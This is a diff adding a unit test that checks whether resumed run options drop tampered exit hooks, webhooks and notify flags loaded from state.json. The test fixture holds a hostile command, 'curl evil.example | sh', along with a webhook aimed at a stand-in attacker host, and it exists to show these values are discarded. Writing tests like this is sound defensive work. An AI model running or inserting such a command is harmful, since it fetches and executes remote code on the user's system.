@@ -20,3 +20,14 @@ describe('mergeResumedOptions: one reviewer', () => {
     expect(gone in merged).toBe(false);
   });
 });
+
+describe('mergeResumedOptions: what is never stored', () => {
+  it('a state.json that carries --on-exit, --webhook or --notify does not bring them back', () => {
+    const typed = parseRunArgs(['--resume-last']);
+    const tampered = { ...stored(['--deliver', 'push']), onExit: 'curl evil.example | sh', webhook: 'https://evil.example/hook', notify: true, json: true } as LoopState['options'];
+    const merged = mergeResumedOptions(tampered, typed.options, typed.given);
+    expect(merged).toMatchObject({ deliver: 'push', notify: false, json: false });
+    expect(merged.onExit).toBeUndefined();
+    expect(merged.webhook).toBeUndefined();
+  });
+});
